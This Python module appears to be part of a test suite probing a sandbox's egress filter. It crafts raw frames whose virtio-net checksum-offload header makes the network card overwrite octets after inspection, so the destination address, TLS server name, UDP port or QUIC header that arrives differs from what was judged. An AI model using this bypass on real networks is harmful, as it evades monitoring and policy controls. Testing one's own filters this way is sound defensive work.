"""A checksum that is left to the network card, at a place where it is none.

A frame may say where the card is to write which checksum. Who judges the packet sees what is there
before; what arrives has two other octets. Root in a box can send such frames through a packet
socket or a tun device: virtio 1.2 section 5.1.6.2, VIRTIO_NET_HDR_F_NEEDS_CSUM.
"""

import contextlib
import socket
import struct

from attempts.catalogue import Bar, Place, attempt
from attempts.connection import opened
from attempts.controls import resolve
from attempts.dnswire import dns_query, labels
from attempts.hello import client_hello
from attempts.wire import (
    ACK,
    PSH,
    TCP,
    UDP,
    checksum,
    family_of,
    ip,
    packed,
    router_mac,
    tcp,
    udp,
)

_SOL_PACKET, _PACKET_VNET_HDR = 263, 15
_ETHERNET = 14
_IN_RANDOM = 12
_LIMIT = "SECURITY.md, What does not hold yet"


def _send(place: Place, packet: bytes, start: int, offset: int) -> None:
    """Send a packet whose checksum from `start` on is to be written `offset` octets behind that."""
    kind = b"\x86\xdd" if place.version == 6 else b"\x08\x00"
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((place.interface, 0))
        raw.setsockopt(_SOL_PACKET, _PACKET_VNET_HDR, 1)
        wanted = struct.pack("=BBHHHH", 1, 0, 0, 0, _ETHERNET + start, offset)
        mac = router_mac(place.interface, place.router4)
        raw.send(wanted + mac + raw.getsockname()[4] + kind + packet)


def _tuned(data: bytes, at: int, wanted: bytes) -> bytes:
    """Change the two octets at `at`, which is even, so that the checksum of all is `wanted`."""
    data = data[:at] + b"\0\0" + data[at + 2 :]
    now = ~checksum(data) & 0xFFFF
    sum_wanted = ~int.from_bytes(wanted, "big") & 0xFFFF
    return data[:at] + struct.pack(">H", (sum_wanted - now) % 0xFFFF) + data[at + 2 :]


@attempt(
    "offload",
    "another destination, judged as {}",
    Bar.UNLISTED,
    over=("a listed address", "an address of the allowed name"),
    versions=(6,),
    known_limit=_LIMIT,
)
def _(place: Place, mark: str, judged: str) -> None:
    """IPv6 has no checksum over its own header."""
    good = place.listed if judged == "a listed address" else place.allowed_at
    listed, target = packed(good), packed(place.elsewhere)
    at = next(at for at in range(0, 16, 2) if listed[at : at + 2] != target[at : at + 2])
    written = target[at : at + 2]
    arrives = socket.inet_ntop(socket.AF_INET6, listed[:at] + written + listed[at + 2 :])
    body = udp(place.own, arrives, 4242, mark.encode()) + b"\0\0"  # behind the datagram's end
    packet = ip(place.own, good, UDP, body)
    packet = packet[:24] + _tuned(packet[24:], len(packet) - 26, written)
    _send(place, packet, 24, at)


@attempt("offload", "another name in TLS", Bar.NAMED)
def _(place: Place, mark: str) -> None:
    """Judged as a name that has this address; what arrives is one that nobody has asked for."""
    judged = f"{mark[:-2]}xx.{place.zone}"
    with contextlib.suppress(socket.gaierror):
        socket.getaddrinfo(judged, 443, family_of(place.own))
    made = opened(place, 443)
    try:
        hello = client_hello(judged)
        at = hello.index(judged.encode()) + len(mark) - 2
        hello = _tuned(hello, _IN_RANDOM, mark[-2:].encode())
        arrives = hello[:at] + mark[-2:].encode() + hello[at + 2 :]
        ends = (place.own, place.allowed_at, made.source_port, 443)
        head = tcp(*ends, arrives, seq=made.seq, ack=made.ack, flags=PSH | ACK)[: -len(hello)]
        packet = ip(place.own, place.allowed_at, TCP, head + hello)
        _send(place, packet, len(packet) - len(hello), at)
        made.answers()
    finally:
        made.close()


@attempt(
    "offload",
    "a question to {}, judged as a datagram to another port",
    Bar.ALWAYS,
    over=("a listed address", "an address of the allowed name", "elsewhere"),
    known_limit=_LIMIT,
)
def _(place: Place, mark: str, where: str) -> None:
    targets = {"a listed address": place.listed, "elsewhere": place.elsewhere}
    target = targets.get(where, place.allowed_at)
    resolve(place)
    query = dns_query(labels(f"x.{mark}.example"))
    _rewritten(place, target, 4242, query, _PORT_IN_UDP, (53).to_bytes(2, "big"))


@attempt("offload", "QUIC, judged as something else", Bar.NAMED, known_limit=_LIMIT)
def _(place: Place, mark: str) -> None:
    resolve(place)
    initial = b"\x03\0\0\0\1\x08" + bytes(8) + b"\0\0" + mark.encode()
    _rewritten(place, place.allowed_at, 8443, initial, _DATA_IN_UDP, b"\xc3\0")


_PORT_IN_UDP, _DATA_IN_UDP = 2, 8


def _rewritten(place: Place, target: str, port: int, data: bytes, at: int, arrives: bytes) -> None:
    """Send a datagram in which two octets are others when it leaves the node."""
    body = udp(place.own, target, port, data + bytes(len(data) % 2 + 2), source_port=4000 + at)
    packet = ip(place.own, target, UDP, body)
    head = len(packet) - len(body)
    _send(place, packet[:head] + _tuned(body, len(body) - 2, arrives), head, at)
